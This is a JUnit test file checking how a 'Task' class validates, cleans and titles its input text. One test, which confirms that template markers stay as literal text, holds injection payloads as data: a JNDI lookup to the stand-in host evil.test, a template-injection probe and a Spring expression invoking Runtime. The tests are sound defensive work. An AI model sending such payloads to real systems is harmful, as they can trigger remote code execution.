package dev.winnow.spec;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.winnow.WinnowException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class TaskTest {

  @ParameterizedTest
  @ValueSource(strings = {"", "   ", "\n\t\n", "\u0000\u001b\u200b\u202e"})
  void aTaskWithoutAnythingToReadIsRefused(String text) {
    assertThatThrownBy(() -> new Task(text))
        .isInstanceOf(WinnowException.class)
        .hasMessageContaining("--task");
  }

  @Test
  void aMegabyteIsRefusedWithTheLimit() {
    assertThatThrownBy(() -> new Task("x".repeat(1_000_000)))
        .isInstanceOf(WinnowException.class)
        .hasMessageContaining("1,000,000")
        .hasMessageContaining("200,000");
  }

  @Test
  void controlCharactersAreDroppedAndLinesStay() {
    Task task = new Task("\u001b[31mRed\u0007\r\nsecond\tline\u202e");
    assertThat(task.text()).isEqualTo("[31mRed\nsecond\tline");
  }

  @Test
  void templateMarkersAreOnlyText() {
    String text = "${jndi:ldap://evil.test/x} {{7*7}} #{T(java.lang.Runtime)} %s %n";
    assertThat(new Task(text).text()).isEqualTo(text);
  }

  @Test
  void theTitleIsTheFirstLineCutToSeventyTwoCharacters() {
    assertThat(new Task("\n\nShort\nmore").title()).isEqualTo("Short");
    assertThat(new Task("w".repeat(100)).title()).hasSize(72).endsWith("…");
  }
}
